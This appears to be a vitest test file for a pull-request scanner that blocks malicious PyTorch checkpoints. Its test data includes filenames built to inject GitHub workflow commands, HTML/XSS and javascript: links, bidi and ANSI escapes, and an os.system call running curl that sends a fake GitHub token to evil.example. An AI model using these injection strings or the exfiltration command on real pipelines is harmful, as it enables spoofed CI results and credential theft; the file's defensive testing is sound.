// Pull requests that try to speak to the runner, to the reader of the summary, or to the limits.
import { afterAll, describe, expect, it } from 'vitest';
import { removeRunFolders } from '../contract/runner.ts';
import { check, said } from './check.ts';
import { calling, checkpoint, MALICIOUS } from './models.ts';
import { PULL_REQUESTS, pullRequest } from './pull-requests.ts';

afterAll(removeRunFolders);

const NAMES = [
  'models/a.pt\n::stop-commands::x\n',
  'models/##[add-mask]CRITICAL.pt',
  'models/::error file=README.md,line=1::all is well.pt',
  'models/%0A::set-output name=decision::pass.pt',
  'models/x\n\n# ✅ Passed: nothing found\n\n.pt',
  'models/<img src=x onerror=alert(1)>.pt',
  'models/</td></tr></table><h1>Passed</h1>.pt',
  'models/a`|`b|[click](javascript:alert(1))![i](https:evil.example).pt',
  'models/\u202Etp.neddih\u202C\u200B.pt',
  'models/\u001b[2J\u001b[1;32mPASSED.pt',
  'models/@everyone closes #1.pt',
  'decision<<EOF\npass\nEOF.pt',
];

/** Characters that change what a reader sees: controls without newline and tab, bidi, zero-width. */
const INVISIBLE = /(?![\n\t])[\p{Cc}\p{Cf}]/u;

/** stdout without the plain colours that the log itself uses; the names try other sequences. */
function uncoloured(stdout: string): string {
  return stdout.replaceAll(new RegExp(String.raw`\u001b\[\d{1,2}m`, 'g'), '');
}

describe.each(NAMES)('a file named %j', (name) => {
  it('changes neither the verdict nor what people see of it', async () => {
    const outcome = await check(pullRequest({ [name]: MALICIOUS }));
    expect(outcome).toMatchObject({ exitCode: 1, outputs: { decision: 'block', critical: '1' } });
    expect(said(outcome, 'error')).toContain('curl');
    expect(uncoloured(outcome.stdout)).not.toMatch(INVISIBLE);
    expect(outcome.summary).not.toMatch(INVISIBLE);
    expect(outcome.summary).not.toMatch(/^\s*# ✅ Passed/m);
    expect(outcome.summary).not.toMatch(/<(img|h1|script|a )|<\/t[dr]>/i);
    expect(outcome.summary).not.toMatch(/(?<!\\)\]\(javascript:|!\[i\]\(/);
  });
});

describe('text inside a model', () => {
  it('is escaped like names are', async () => {
    const argument = 'x\n::stop-commands::y\n##[error]z\n<img src=x> | `a` \u202E @everyone';
    const outcome = await check(pullRequest({ 'm.pt': checkpoint(calling('os', 'system', argument)) }));
    expect(outcome.outputs).toMatchObject({ decision: 'block', critical: '1' });
    expect(uncoloured(outcome.stdout) + outcome.summary).not.toMatch(INVISIBLE);
    expect(outcome.summary).not.toContain('<img');
  });

  it('keeps its secrets', async () => {
    const secret = ['ghp', 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3gH6'].join('_');
    const command = `curl -H 'Authorization: token ${secret}' https://evil.example`;
    const outcome = await check(pullRequest({ 'm.pt': checkpoint(calling('os', 'system', command)) }));
    expect(outcome.outputs['decision']).toBe('block');
    const everything = outcome.log + outcome.summary + JSON.stringify([outcome.report, outcome.sarif]);
    expect(everything).not.toContain(secret);
  });
});

/** So many files below m/. */
function many(count: number, content: (index: number) => Uint8Array | string) {
  return Object.fromEntries(Array.from({ length: count }, (_, index) => [`m/${index}.pt`, content(index)]));
}

describe('size', () => {
  it('of the findings: the runner keeps ten of a level, and the last says there are more', async () => {
    const outcome = await check(
      pullRequest(many(40, (index) => checkpoint(calling('os', 'system', `run ${index}`)))),
    );
    expect(outcome.outputs).toMatchObject({ decision: 'block', critical: '40' });
    expect(outcome.limits.dropped).toEqual({ error: 0, warning: 0, notice: 0 });
    expect(said(outcome, 'error')).toMatch(/more/);
  });

  it('of the change: more files than GitHub lists are read, or the check fails closed', async () => {
    const outcome = await check(
      pullRequest({ ...many(3001, (index) => `text ${index}`), 'zzz.pt': MALICIOUS }),
    );
    expect(outcome.exitCode).toBe(1);
    expect(said(outcome, 'error')).not.toBe('');
  });

  it('of a tree: what a recursive listing cuts off is found by walking', async () => {
    const outcome = await check({ ...PULL_REQUESTS.malicious, treeLimit: { recursive: 1 } });
    expect(outcome.outputs).toMatchObject({ decision: 'block', critical: '1' });
  });

  it('of a tree: a folder that GitHub cannot list whole is never passed', async () => {
    const outcome = await check({ ...PULL_REQUESTS.malicious, treeLimit: { recursive: 1, flat: 1 } });
    expect(outcome.exitCode).toBe(1);
  });
});
